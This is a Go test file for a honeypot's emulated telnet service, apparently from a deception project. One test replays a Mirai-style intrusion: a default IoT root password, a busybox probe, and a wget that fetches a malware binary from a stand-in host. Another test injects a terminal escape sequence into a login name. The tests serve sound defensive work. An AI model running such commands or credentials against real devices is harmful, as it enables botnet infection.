package telnet

import (
	"bufio"
	"bytes"
	"io"
	"net"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/event"
	"github.com/decnet/decnet/internal/service/servicetest"
	"github.com/decnet/decnet/internal/testenv"
)

func TestMiraiStyleSession(t *testing.T) {
	r := servicetest.Start(t, "telnet", Port, servicetest.Options{OS: "embedded", Distro: "busybox", Hostname: "ipcam-3f9a",
		Config: map[string]any{"users": []any{"root:xc3511"}}})
	out := servicetest.Exchange(t, r.HostPort(Port), "root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\ncat /proc/cpuinfo | head -n 1; echo -e '\\x41\\x42'\r\nwget http://203.0.113.9/bins/mirai.arm7 -O /tmp/m\r\nexit\r\n", 15*time.Second)
	for _, want := range []string{"ipcam-3f9a login: ", "Password: ", "ECCHI: applet not found", "AB"} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in:\n%s", want, out)
		}
	}
	if strings.Contains(out, "xc3511") {
		t.Error("the password was echoed")
	}
	if !bytes.HasPrefix([]byte(out), []byte{iac, do, optEcho, iac, do, optNAWS, iac, will, optEcho, iac, will, optSGA}) {
		t.Errorf("opening negotiation %q", out[:12])
	}
	e, ok := r.Events.Wait(5*time.Second, event.OfType("telnet.login.success"))
	if !ok || e.Credential.Principal != "root" || e.Credential.SecretText != "xc3511" {
		t.Fatalf("login event %+v", e)
	}
	if _, ok := r.Events.Wait(5*time.Second, func(e event.Event) bool {
		return e.Type == "telnet.command.input" && e.Fields["command"] == "/bin/busybox ECCHI"
	}); !ok {
		t.Fatal("busybox command not evented")
	}
	f, ok := r.Events.Wait(5*time.Second, event.OfType("telnet.file.fetch"))
	if !ok || f.Fields["url"] != "http://203.0.113.9/bins/mirai.arm7" {
		t.Fatalf("fetch event %+v", f.Fields)
	}
}

func TestFailedLoginAndForgedUsername(t *testing.T) {
	r := servicetest.Start(t, "telnet", Port, servicetest.Options{Distro: "debian", Hostname: "srv-files-01"})
	evil := "adm\x1b[2Jin\r\n"
	out := servicetest.Exchange(t, r.HostPort(Port), evil+"nope\r\n", 15*time.Second)
	if !strings.Contains(out, "Debian GNU/Linux 12") || !strings.Contains(out, "srv-files-01 login: ") {
		t.Fatalf("debian banner/prompt missing:\n%q", out)
	}
	e, ok := r.Events.Wait(10*time.Second, event.OfType("telnet.login.failed"))
	if !ok || e.Credential.Principal != "adm\x1b[2Jin" {
		t.Fatalf("failed login %+v", e.Credential)
	}
	line, _ := event.JSONLine(&e)
	if bytes.Count(line, []byte("\n")) != 1 {
		t.Fatalf("escape split the event line: %q", line)
	}
}

func TestRealTelnetClient(t *testing.T) {
	bin := testenv.RequireTool(t, "telnet")
	r := servicetest.Start(t, "telnet", Port, servicetest.Options{Distro: "ubuntu22", Hostname: "web07",
		Config: map[string]any{"users": []any{"admin:admin"}}})
	host, port, _ := net.SplitHostPort(r.HostPort(Port))
	cmd := exec.Command(bin, host, port)
	stdin, _ := cmd.StdinPipe()
	out := &testenv.Buffer{}
	cmd.Stdout, cmd.Stderr = out, out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cmd.Process.Kill(); cmd.Wait() }()
	// The client passes stdin on as typing; the server consumes it line by
	// line. Exit only once the output arrived: the client drops what is
	// still buffered when the server hangs up.
	io.WriteString(stdin, "admin\nadmin\nid; hostname; uname -r\n")
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(out.String(), "5.15.0-119-generic\r\n") {
		if time.Now().After(deadline) {
			t.Fatalf("no command output:\n%s", out.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
	io.WriteString(stdin, "exit\n")
	if _, ok := r.Events.Wait(10*time.Second, func(e event.Event) bool { return e.Type == "telnet.session.close" && e.Seq > 2 }); !ok {
		t.Fatalf("session did not end:\n%s", out.String())
	}
	for _, want := range []string{"Welcome to Ubuntu 22.04", "uid=1000(admin)", "web07"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("missing %q in:\n%s", want, out.String())
		}
	}
}

func FuzzTerm(f *testing.F) {
	f.Add([]byte("root\r\n\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0pass\r\n"))
	f.Add([]byte("\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0a\x7f\x7fb\r\x00c\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		tm := &term{r: bufio.NewReader(bytes.NewReader(data)), w: io.Discard, echo: true, outRepl: strings.NewReplacer("\n", "\r\n")}
		for range 64 {
			line, err := tm.readLine(false)
			if len(line) > maxLine {
				t.Fatalf("line of %d bytes", len(line))
			}
			if err != nil && err != errInterrupt {
				return
			}
		}
	})
}
